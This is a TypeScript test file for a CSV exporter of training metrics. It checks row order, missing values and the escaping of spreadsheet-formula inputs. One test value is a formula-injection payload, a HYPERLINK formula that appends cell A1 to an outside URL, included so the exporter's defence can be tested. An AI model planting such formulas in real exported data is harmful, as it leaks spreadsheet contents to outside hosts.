import test from 'ava';
import { csvMark, renderCsv } from '../src/outputs/csv.js';
import { csvLine } from '../src/outputs/csv-line.js';
import { buildEpochTable, buildExperiment } from './build-experiment.js';

test('one row an epoch of a rank, in the order of the earlier tool, missing figures empty', (t) => {
  const experiment = buildExperiment({
    ranks: [
      {
        stepsPerEpoch: 13,
        epochs: [
          { epoch: 1, seconds: 125, secondsPerStep: 10, metrics: { val_loss: 0.9, dsc: 1.7519e-4, loss: 0.9998 } },
          { epoch: 2, metrics: { loss: Number.NaN, val_dsc: -Infinity }, partial: true },
        ],
      },
      { epochs: [{ epoch: 1, segment: 2, metrics: { '=lr': 0.1, loss: -0.5 } }] },
    ],
  });
  t.is(
    renderCsv(experiment),
    [
      "rank,epoch,step,steps_per_epoch,time_per_step,loss,accuracy,dsc,'=lr,val_loss,val_accuracy,val_dsc,segment,partial,seconds",
      '0,1,13,13,10,0.9998,,0.00017519,,0.9,,,1,,125',
      '0,2,,13,,NaN,,,,,,-Infinity,1,yes,',
      '1,1,,,,-0.5,,,0.1,,,,2,,',
      '',
    ].join('\n'),
  );
});

test('steps stand before the final record of their epoch', (t) => {
  const { length, segment, epoch, metrics } = buildEpochTable([
    { epoch: 1, metrics: { loss: 0.9 } },
    { epoch: 2, metrics: { loss: 0.7 } },
  ]);
  const steps = { length, segment, epoch, step: Int32Array.of(5, 6), metrics };
  const epochs = [1, 2].map((n) => ({ epoch: n, metrics: { loss: 1 / n } }));
  const lines = renderCsv(buildExperiment({ ranks: [{ stepsPerEpoch: 13, steps, epochs }] })).split('\n');
  t.deepEqual(lines.slice(1, 5), [
    '0,1,5,13,,0.9,,,,1,,',
    '0,1,13,13,,1,,,,1,,',
    '0,2,6,13,,0.7,,,,1,,',
    '0,2,13,13,,0.5,,,,1,,',
  ]);
});

test('every such file begins with its mark', (t) => {
  t.true(renderCsv(buildExperiment()).startsWith(csvMark));
});

for (const [text, field] of [
  ['=HYPERLINK("http://x/"&A1)', `"'=HYPERLINK(""http://x/""&A1)"`],
  ['+1', "'+1"],
  ['-2', "'-2"],
  ['@SUM', "'@SUM"],
  ['\tx', "'\tx"],
  ['\rx', `"'\rx"`],
  ['a,b', '"a,b"'],
  ['two\nlines', '"two\nlines"'],
  ['plain =1', 'plain =1'],
] as const) {
  test(`${JSON.stringify(text)} is written as ${JSON.stringify(field)}`, (t) => {
    t.is(csvLine([text, 1]), `${field},1\n`);
  });
}
